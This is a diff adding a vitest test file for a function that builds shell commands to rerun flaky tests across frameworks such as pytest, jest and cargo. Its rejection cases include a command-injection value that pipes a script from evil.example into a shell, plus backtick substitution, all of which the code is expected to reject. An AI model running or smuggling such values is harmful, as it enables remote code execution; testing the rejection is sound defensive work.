@@ -1,0 +1,62 @@
+import { expect, test } from 'vitest';
+import type { TestIdentity } from '../../../src/core/documents/findings.ts';
+import { reproduceCommand } from '../../../src/core/findings/reproduce.ts';
+import { FRAMEWORKS, type Framework } from '../../../src/core/model/framework.ts';
+
+function identity(framework: Framework, id: string, more: Partial<TestIdentity> = {}): TestIdentity {
+  return { framework, id, suite: null, file: null, workflow: 'ci.yml', job: 'test', cells: [], ...more };
+}
+
+test('one command per framework', () => {
+  const ids: Record<Framework, TestIdentity> = {
+    pytest: identity('pytest', 'tests/test_a.py::TestB::test_c[1-x]'),
+    unittest: identity('unittest', 'pkg.mod.Class.test_c'),
+    jest: identity('jest', 'queue (fast) › drains', { file: 'src/queue.test.ts' }),
+    vitest: identity('vitest', 'src/q.test.ts > queue > drains', { file: 'src/q.test.ts' }),
+    mocha: identity('mocha', 'queue drains'),
+    'go-test': identity('go-test', 'TestA/case_1', { suite: 'example.com/m/pkg' }),
+    'cargo-test': identity('cargo-test', 'queue::tests::drains'),
+    rspec: identity('rspec', './spec/a_spec.rb:12'),
+    maven: identity('maven', 'org.example.ATest.drains'),
+    gradle: identity('gradle', 'org.example.ATest.drains'),
+    'junit-xml': identity('junit-xml', 'ATest.drains'),
+  };
+  const commands = Object.fromEntries(FRAMEWORKS.map((framework) => [framework, reproduceCommand(ids[framework])]));
+  expect(commands).toMatchInlineSnapshot(`
+    {
+      "cargo-test": "for i in $(seq 50); do cargo test 'queue::tests::drains' -- --exact || break; done",
+      "go-test": "go test -run '^TestA$/^case_1$' -count=50 'example.com/m/pkg'",
+      "gradle": "for i in $(seq 50); do ./gradlew test --rerun-tasks --tests 'org.example.ATest.drains' || break; done",
+      "jest": "for i in $(seq 50); do npx jest 'src/queue.test.ts' -t 'queue \\(fast\\) drains' || break; done",
+      "junit-xml": null,
+      "maven": "for i in $(seq 50); do mvn -q test -Dtest='org.example.ATest#drains' || break; done",
+      "mocha": "for i in $(seq 50); do npx mocha -g 'queue drains' || break; done",
+      "pytest": "for i in $(seq 50); do pytest 'tests/test_a.py::TestB::test_c[1-x]' || break; done",
+      "rspec": "for i in $(seq 50); do bundle exec rspec './spec/a_spec.rb:12' || break; done",
+      "unittest": "for i in $(seq 50); do python -m unittest 'pkg.mod.Class.test_c' || break; done",
+      "vitest": "for i in $(seq 50); do npx vitest run 'src/q.test.ts' -t 'queue drains' || break; done",
+    }
+  `);
+});
+
+test.each([
+  "a'; curl evil.example | sh; '",
+  '`id`',
+  'a\nb',
+  '-x',
+  'a\u202Eb',
+  'a\\',
+  'a"b',
+  'a;b',
+  'a|b',
+  'a&b',
+  'tést',
+  'x'.repeat(400),
+])('the id %j gets no command', (id) => {
+  expect(FRAMEWORKS.map((framework) => reproduceCommand(identity(framework, id)))).toEqual(FRAMEWORKS.map(() => null));
+});
+
+test('an unsafe file or suite gets no command either', () => {
+  expect(reproduceCommand(identity('jest', 'a', { file: "x'y" }))).toBeNull();
+  expect(reproduceCommand(identity('go-test', 'TestA', { suite: 'a;b' }))).toBeNull();
+});
